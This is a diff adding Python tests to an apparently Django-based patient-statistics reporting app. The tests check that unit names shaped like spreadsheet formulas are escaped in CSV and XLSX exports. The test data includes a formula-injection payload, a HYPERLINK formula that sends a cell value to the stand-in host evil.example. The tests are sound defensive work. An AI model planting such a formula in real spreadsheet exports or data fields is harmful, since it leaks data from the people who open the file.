@@ -284,3 +284,33 @@ def test_previous_three_months_are_hidden_in_files_when_one_of_them_hides_a_smal
     # August 8 of 20 and October 10 of 20 are exact in the trend table; 40 patient-months and 33.3 % would give 2.
     assert "n = 60 patient-months" not in content and "33.3" not in content
     assert "too few to compare" in content
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Enhet B2")'
+
+
+def test_a_unit_named_like_a_formula_is_text_in_the_csv_and_the_xlsx(client, analyst, unit_a):
+    unit_a.name = EVIL_NAME
+    unit_a.save()
+    month_of_contacts(unit_a, patients=12, referred=6)
+    login(client, analyst)
+    params = {"month": "2026-10"}
+
+    csv_row = _csv_rows(client.get(reverse("reports:compare_export", args=["csv"]), params).content)[0]
+    sheet = load_workbook(
+        io.BytesIO(client.get(reverse("reports:compare_export", args=["xlsx"]), params).content)
+    ).active
+    name_cell = sheet.cell(row=2, column=3)
+
+    assert csv_row["unit_name"] == "'" + EVIL_NAME
+    assert (name_cell.data_type, name_cell.value) == ("s", "'" + EVIL_NAME)
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_spreadsheet_safe_neutralises_every_formula_start_and_keeps_numbers():
+    from core.spreadsheets import spreadsheet_safe, unescape
+
+    for text in ("=1+1", "+1", "-A1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert spreadsheet_safe(text) == "'" + text
+        assert unescape(spreadsheet_safe(text)) == text
+    assert [spreadsheet_safe(text) for text in ("-5", "12.5", "Enhet", "")] == ["-5", "12.5", "Enhet", ""]
